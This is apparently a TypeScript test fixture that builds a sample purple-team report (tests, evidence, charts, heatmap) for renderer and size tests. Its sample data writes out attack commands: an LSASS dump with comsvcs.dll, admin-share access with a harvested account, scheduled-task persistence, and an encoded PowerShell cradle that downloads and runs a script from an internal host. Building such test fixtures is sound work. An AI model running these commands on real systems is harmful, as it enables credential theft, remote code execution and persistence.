/**
 * Test-only: a hand-built ReportModel for the renderer tests (PDF, DOCX, HTML) and a large one
 * for the size test. Evidence images come from the small committed fixtures; charts are real
 * ECharts SSR SVG, as the model builder produces them.
 */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import * as echarts from 'echarts';
import sharp from 'sharp';
import { REPORT_SECTIONS, type ReportFormat } from '@metamorph/contract';
import type {
  ReportChart,
  ReportEvidence,
  ReportImage,
  ReportModel,
  ReportTest,
  ReportToolResult,
} from '../model/report-model.js';

/** A password that the model builder redacted: it must appear in no report. */
export const SAMPLE_SECRET = 'Winter2026!Secret';
export const SAMPLE_CLIENT = 'Défense Café SA';
export const SAMPLE_MISSION = 'Purple exercise “Nightjar” © 2026';
export const SAMPLE_COMMAND =
  'net use \\\\dc01\\c$ /user:ACME\\svc_backup [REDACTED:password] && whoami /all';
export const SAMPLE_SHA = 'a3f1c2e4b5d6978812345678901234567890abcdefabcdefabcdef0123456789';

const fixture = (name: string): Buffer =>
  readFileSync(fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url)));

const FIXTURES = ['terminal.jpg', 'siem-alert.png'] as const;
const thumbCache = new Map<string, ReportImage>();

/** A JPEG comment segment right after SOI: the same picture, different bytes (no dedup). */
function tagged(jpeg: Buffer, tag: string | undefined): Buffer {
  if (!tag) return Buffer.from(jpeg);
  const text = Buffer.from(tag, 'latin1');
  const seg = Buffer.alloc(4);
  seg.writeUInt16BE(0xfffe, 0);
  seg.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), seg, text, jpeg.subarray(2)]);
}

/** As the model builder does: the file as a ≤ 800 px JPEG. Cached so the size test measures rendering. */
async function thumbnailOf(name: string, tag?: string): Promise<ReportImage> {
  const hit = thumbCache.get(name);
  if (hit) return { ...hit, jpeg: tagged(hit.jpeg, tag) };
  const { data, info } = await sharp(fixture(name))
    .resize({ width: 800, withoutEnlargement: true })
    .jpeg({ quality: 80 })
    .toBuffer({ resolveWithObject: true });
  const image = { jpeg: data, width: info.width, height: info.height };
  thumbCache.set(name, image);
  return { ...image, jpeg: tagged(data, tag) };
}

function imageEvidence(id: string, fixtureName: string, caption: string, sha: string, unique = false): ReportEvidence {
  return {
    id,
    fileName: fixtureName,
    caption,
    side: fixtureName.endsWith('.png') ? 'blue' : 'red',
    mime: fixtureName.endsWith('.png') ? 'image/png' : 'image/jpeg',
    sizeBytes: 1_843_200,
    sha256: sha,
    isImage: true,
    thumbnail: () => thumbnailOf(fixtureName, unique ? id : undefined),
    textPreview: async () => null,
  };
}

function textEvidence(id: string, sha: string): ReportEvidence {
  return {
    id,
    fileName: 'sysmon-event-10.txt',
    caption: 'Sysmon event 10 exported from the SIEM',
    side: 'blue',
    mime: 'text/plain',
    sizeBytes: 2_311,
    sha256: sha,
    isImage: false,
    thumbnail: async () => null,
    textPreview: async () =>
      'EventID: 10 (ProcessAccess)\nSourceImage: C:\\Windows\\System32\\rundll32.exe\n' +
      'TargetImage: C:\\Windows\\System32\\lsass.exe\nGrantedAccess: 0x1fffff\n' +
      'Password=[REDACTED:password]',
  };
}

const tools = (alerted: string, prevented = 'no'): ReportToolResult[] => [
  {
    toolName: 'Defender for Endpoint',
    layer: 'EDR',
    prevented,
    alerted,
    logged: 'yes',
    ruleName: alerted === 'yes' ? 'Suspicious LSASS access — “credential theft”' : null,
    detectedAt: alerted === 'yes' ? new Date('2026-03-02T14:07:12.000Z') : null,
    note: 'Alert grouped in incident 4412; analyst confirmed true positive.',
  },
  {
    toolName: 'Splunk SIEM',
    layer: 'SIEM',
    prevented: 'no',
    alerted: 'tbd',
    logged: 'yes',
    ruleName: null,
    detectedAt: null,
    note: null,
  },
];

const LONG_OUTPUT = Array.from(
  { length: 400 },
  (_, i) =>
    `[${String(i).padStart(3, '0')}] C:\\Users\\Public\\Documents\\share\\finance-${i}.xlsx  ` +
    `${(i * 7919) % 100000} bytes  owner=ACME\\j.doe  acl=Everyone:(R)  ` +
    'hash=' +
    'f'.repeat(40),
).join('\n');

function test(partial: Partial<ReportTest> & Pick<ReportTest, 'id' | 'number' | 'name'>): ReportTest {
  return {
    scenarioName: 'Credential access',
    state: 'reviewed_by_blue',
    objective: null,
    procedureMd: null,
    attack: [],
    command: null,
    output: null,
    attackStartedAt: null,
    attackEndedAt: null,
    executedAt: null,
    executionResult: null,
    level: null,
    overrideReason: null,
    toolResults: [],
    redCommentMd: null,
    blueCommentMd: null,
    expectation: null,
    expectedSummary: null,
    gapReason: null,
    evidence: [],
    ...partial,
  };
}

const LEVELS = {
  prevented: { label: 'Prevented', colour: '#2b8a3e' },
  alerted: { label: 'Alerted', colour: '#1c7ed6' },
  logged: { label: 'Logged', colour: '#f59f00' },
  none: { label: 'Not detected', colour: '#c92a2a' },
};

function sampleTests(): ReportTest[] {
  const t0 = new Date('2026-03-02T14:05:00.000Z');
  const plus = (m: number) => new Date(t0.getTime() + m * 60_000);
  return [
    test({
      id: 't1',
      number: '1.1',
      name: 'LSASS memory dump with comsvcs.dll',
      objective: 'Dump LSASS memory with a living-off-the-land binary to extract credentials.',
      procedureMd:
        '1. Open an **elevated** shell on `WS-0142`.\n2. Run the *MiniDump* export of comsvcs.dll.\n3. Copy the dump out.',
      attack: [{ externalId: 'T1003.001', name: 'OS Credential Dumping: LSASS Memory' }],
      command: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full',
      output: '[+] lsass.exe (PID 624) dumped: 48,213,504 bytes',
      attackStartedAt: t0,
      attackEndedAt: plus(3),
      executedAt: plus(3),
      executionResult: 'Succeeded',
      level: LEVELS.alerted,
      toolResults: tools('yes'),
      redCommentMd: 'Dump written to `C:\\Temp\\l.dmp`; **removed** after the test.',
      blueCommentMd: 'Defender raised *Suspicious LSASS access* within 2 min.\n\n- Incident 4412\n- Analyst: Zoë Müller',
      expectation: 'Met',
      expectedSummary: 'Alert in the EDR within 15 min',
      evidence: [
        imageEvidence('e1', 'terminal.jpg', 'Operator terminal — dump written', SAMPLE_SHA),
        imageEvidence('e2', 'siem-alert.png', 'SIEM alert 4412 (“High”)', 'b'.repeat(64)),
        textEvidence('e3', 'c'.repeat(64)),
      ],
    }),
    test({
      id: 't2',
      number: '1.2',
      name: 'Lateral movement over SMB with a harvested account',
      objective: 'Reuse the backup account on the domain controller. Défense — “quoted” © café.',
      attack: [{ externalId: 'T1021.002', name: 'Remote Services: SMB/Windows Admin Shares' }],
      command: SAMPLE_COMMAND,
      output: 'The command completed successfully.',
      attackStartedAt: plus(20),
      attackEndedAt: plus(22),
      executedAt: plus(22),
      executionResult: 'Succeeded',
      level: LEVELS.none,
      toolResults: tools('no'),
      blueCommentMd: 'No alert: the logon was **not** correlated.',
      expectation: 'Not met',
      expectedSummary: 'Alert on admin-share access by a service account',
      gapReason: 'No rule',
    }),
    test({
      id: 't3',
      number: '1.3',
      name: 'File share discovery with a very long output',
      attack: [{ externalId: 'T1135', name: 'Network Share Discovery' }],
      command: 'Get-ChildItem -Recurse \\\\fs01\\finance | Format-Table -AutoSize',
      output: LONG_OUTPUT,
      executedAt: plus(40),
      executionResult: 'Succeeded',
      level: LEVELS.logged,
      toolResults: tools('no'),
      expectation: 'Not met',
      gapReason: 'Rule did not fire',
    }),
    test({
      id: 't4',
      number: '2.1',
      scenarioName: 'Execution and persistence',
      name: 'Encoded PowerShell download cradle',
      attack: [
        { externalId: 'T1059.001', name: 'Command and Scripting Interpreter: PowerShell' },
        { externalId: 'T1105', name: 'Ingress Tool Transfer' },
      ],
      command:
        'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA',
      executedAt: plus(60),
      executionResult: 'Stopped by a control',
      level: LEVELS.prevented,
      overrideReason: 'AMSI blocked the script before the EDR rule matched; lead confirmed prevention.',
      toolResults: tools('yes', 'yes'),
      expectation: 'Better than expected',
      expectedSummary: 'Alert only',
    }),
    test({
      id: 't5',
      number: '2.2',
      scenarioName: 'Execution and persistence',
      name: 'Scheduled task persistence',
      attack: [{ externalId: 'T1053.005', name: 'Scheduled Task/Job: Scheduled Task' }],
      command: 'schtasks /create /tn "Updater" /tr C:\\ProgramData\\u.exe /sc onlogon /ru SYSTEM',
      executedAt: plus(75),
      executionResult: 'Succeeded',
      level: LEVELS.alerted,
      toolResults: tools('yes'),
      expectation: 'Met',
    }),
    test({
      id: 't6',
      number: '2.3',
      scenarioName: 'Execution and persistence',
      name: 'WMI event subscription (not run)',
      state: 'blocked',
      attack: [{ externalId: 'T1546.003', name: null }],
    }),
  ];
}

function chartSvg(id: string, title: string, option: Record<string, unknown>): ReportChart {
  const width = 640;
  const height = 300;
  const chart = echarts.init(null, null, { renderer: 'svg', ssr: true, width, height });
  chart.setOption({ animation: false, textStyle: { fontFamily: 'Inter, Arial, sans-serif' }, ...option });
  const svg = chart.renderToSVGString();
  chart.dispose();
  return { id, title, svg, width, height };
}

function sampleCharts(): ReportChart[] {
  return [
    chartSvg('levels', 'Outcomes by detection level', {
      legend: { orient: 'vertical', right: 10, top: 'middle' },
      series: [
        {
          type: 'pie',
          radius: ['40%', '70%'],
          center: ['35%', '50%'],
          label: { formatter: '{b}: {c}' },
          data: Object.values(LEVELS).map((l, i) => ({
            name: l.label,
            value: [1, 2, 1, 1][i],
            itemStyle: { color: l.colour },
          })),
        },
      ],
    }),
    chartSvg('tactics', 'Detection rate by tactic', {
      grid: { left: 140, right: 20, top: 10, bottom: 30 },
      xAxis: { type: 'value', max: 100, axisLabel: { formatter: '{value} %' } },
      yAxis: { type: 'category', data: ['Credential Access', 'Lateral Movement', 'Execution', 'Persistence'] },
      series: [{ type: 'bar', data: [67, 0, 100, 50], itemStyle: { color: '#1c7ed6' } }],
    }),
  ];
}

export function buildSampleModel(format: ReportFormat = 'pdf'): ReportModel {
  const tests = sampleTests();
  return {
    format,
    generatedAt: new Date('2026-03-10T09:30:00.000Z'),
    sections: [...REPORT_SECTIONS],
    cover: {
      clientName: SAMPLE_CLIENT,
      missionName: SAMPLE_MISSION,
      status: 'completed',
      startDate: '2026-03-02',
      endDate: '2026-03-06',
      descriptionMd: 'Assumed-breach exercise on the **finance** domain.',
      team: [
        { role: 'Lead', names: ['Zoë Müller'] },
        { role: 'Red', names: ['Ana Peña', 'Jörg Weiß'] },
        { role: 'Blue', names: ['François Lefèvre', 'Siobhán O’Brien'] },
      ],
      attackRelease: 'ATT&CK v17.1 (enterprise)',
      generatedBy: 'Zoë Müller',
    },
    executiveSummaryMd: [
      '## Overview',
      'The SOC detected **4 of 6** procedures; *lateral movement* went unseen.',
      '',
      '### Recommendations',
      '1. Add a rule for admin-share access by service accounts.',
      '2. Alert on `rundll32.exe` loading **comsvcs.dll**.',
      '   - owner: SOC engineering',
      '',
      '- Review the Splunk pipeline (*TBD* results)',
      '',
      '```',
      'index=wineventlog EventCode=4624 LogonType=3',
      '```',
      '<script>alert(1)</script> stays text.',
    ].join('\n'),
    keyNumbers: [
      { label: 'Tests', value: '6', hint: '5 executed, 1 blocked' },
      { label: 'Reviewed', value: '5 / 6', hint: null },
      { label: 'Detection rate', value: '60 %', hint: 'alerted + prevented' },
      { label: 'Prevention rate', value: '20 %', hint: null },
      { label: 'Logged only', value: '1', hint: 'telemetry, no alert' },
      { label: 'Median time to detect', value: '2 min', hint: null },
    ],
    charts: sampleCharts(),
    heatmap: sampleHeatmap(),
    tactics: [
      { tactic: 'Credential Access', tests: 1, reviewed: 1, detected: 1, prevented: 0, rate: '100 %' },
      { tactic: 'Lateral Movement', tests: 1, reviewed: 1, detected: 0, prevented: 0, rate: '0 %' },
      { tactic: 'Discovery', tests: 1, reviewed: 1, detected: 0, prevented: 0, rate: '0 %' },
      { tactic: 'Execution', tests: 1, reviewed: 1, detected: 1, prevented: 1, rate: '100 %' },
      { tactic: 'Persistence', tests: 2, reviewed: 1, detected: 1, prevented: 0, rate: '100 %' },
    ],
    tests,
    evidenceManifest: manifestOf(tests),
    levels: [
      { key: 'prevented', label: 'Prevented', colour: '#2b8a3e', countsAs: 'prevented', coverageScore: 1, description: 'A control stopped the procedure.' },
      { key: 'alerted', label: 'Alerted', colour: '#1c7ed6', countsAs: 'alerted', coverageScore: 0.75, description: 'An alert reached the SOC.' },
      { key: 'logged', label: 'Logged', colour: '#f59f00', countsAs: 'logged', coverageScore: 0.25, description: 'Telemetry exists; no alert.' },
      { key: 'not_detected', label: 'Not detected', colour: '#c92a2a', countsAs: 'none', coverageScore: 0, description: null },
    ],
    methodologyMd:
      'Each test is a procedure mapped to **MITRE ATT&CK**. Red executes it in the agreed window; blue records what each defence saw.\n\n- *Detection rate* counts alerted + prevented.\n- Logged is reported apart.',
    redactionPatterns: ['Passwords in command lines', 'NTLM/NT hashes', 'JWTs'],
  };
}

function sampleHeatmap(): ReportModel['heatmap'] {
  const cell = (externalId: string, name: string, level: keyof typeof LEVELS | null, fraction: string) => ({
    externalId,
    name,
    levelLabel: level ? LEVELS[level].label : null,
    colour: level ? LEVELS[level].colour : null,
    fraction,
  });
  return {
    columns: [
      { tactic: 'Execution', cells: [cell('T1059.001', 'PowerShell', 'prevented', '1/1')] },
      { tactic: 'Persistence', cells: [cell('T1053.005', 'Scheduled Task', 'alerted', '1/1'), cell('T1546.003', 'WMI Event Subscription', null, '0/1')] },
      { tactic: 'Credential Access', cells: [cell('T1003.001', 'LSASS Memory', 'alerted', '1/1')] },
      { tactic: 'Discovery', cells: [cell('T1135', 'Network Share Discovery', 'logged', '0/1')] },
      { tactic: 'Lateral Movement', cells: [cell('T1021.002', 'SMB/Windows Admin Shares', 'none', '0/1')] },
      { tactic: 'Command and Control', cells: [cell('T1105', 'Ingress Tool Transfer', 'prevented', '1/1')] },
    ],
    legend: [...Object.values(LEVELS).map((l) => ({ label: l.label, colour: l.colour })), { label: 'No outcome', colour: '#e9ecef' }],
    rule: 'worst',
  };
}

function manifestOf(tests: ReportTest[]): ReportModel['evidenceManifest'] {
  return tests.flatMap((t) =>
    t.evidence.map((e) => ({
      testNumber: t.number,
      testName: t.name,
      fileName: e.fileName,
      side: e.side,
      caption: e.caption,
      sizeBytes: e.sizeBytes,
      sha256: e.sha256,
    })),
  );
}

/** `count` tests over 20 scenarios; `images` image evidence spread evenly, reusing the fixtures. */
export function buildLargeModel(format: ReportFormat, count: number, images: number): ReportModel {
  const base = buildSampleModel(format);
  const seeds = base.tests;
  const every = Math.max(1, Math.floor(count / Math.max(1, images)));
  let placed = 0;
  const tests: ReportTest[] = [];
  for (let i = 0; i < count; i++) {
    const seed = seeds[i % seeds.length] ?? seeds[0];
    if (!seed) break;
    const scenario = Math.floor(i / Math.ceil(count / 20)) + 1;
    const hex = i.toString(16).padStart(8, '0');
    const evidence: ReportEvidence[] = [];
    if (i % every === 0 && placed < images) {
      const name = FIXTURES[placed % FIXTURES.length] ?? 'terminal.jpg';
      evidence.push(imageEvidence(`e${i}`, name, `Evidence ${placed + 1}`, hex.repeat(8), true));
      placed++;
    }
    tests.push({
      ...seed,
      id: `t${i}`,
      number: `${scenario}.${(i % Math.ceil(count / 20)) + 1}`,
      scenarioName: `Scenario ${scenario} — ${seed.scenarioName}`,
      name: `${seed.name} #${i + 1}`,
      output: seed.output ? seed.output.slice(0, 3000) : null,
      evidence,
    });
  }
  return { ...base, tests, evidenceManifest: manifestOf(tests) };
}

export interface Measured {
  ms: number;
  /** CPU time (user + system) of the process meanwhile: wall time lies on a shared machine. */
  cpuMs: number;
  /** Highest RSS sampled while rendering, and the RSS before it, in MB. */
  peakRssMb: number;
  baseRssMb: number;
}

/** Times `fn` and samples the process RSS every 25 ms while it runs (test log figures only). */
export async function measure(fn: () => Promise<void>): Promise<Measured> {
  const mb = (b: number): number => Math.round(b / 1024 / 1024);
  const base = process.memoryUsage().rss;
  let peak = base;
  const timer = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss);
  }, 25);
  const t0 = performance.now();
  const cpu0 = process.cpuUsage();
  try {
    await fn();
  } finally {
    clearInterval(timer);
  }
  peak = Math.max(peak, process.memoryUsage().rss);
  const cpu = process.cpuUsage(cpu0);
  return {
    ms: Math.round(performance.now() - t0),
    cpuMs: Math.round((cpu.user + cpu.system) / 1000),
    peakRssMb: mb(peak),
    baseRssMb: mb(base),
  };
}
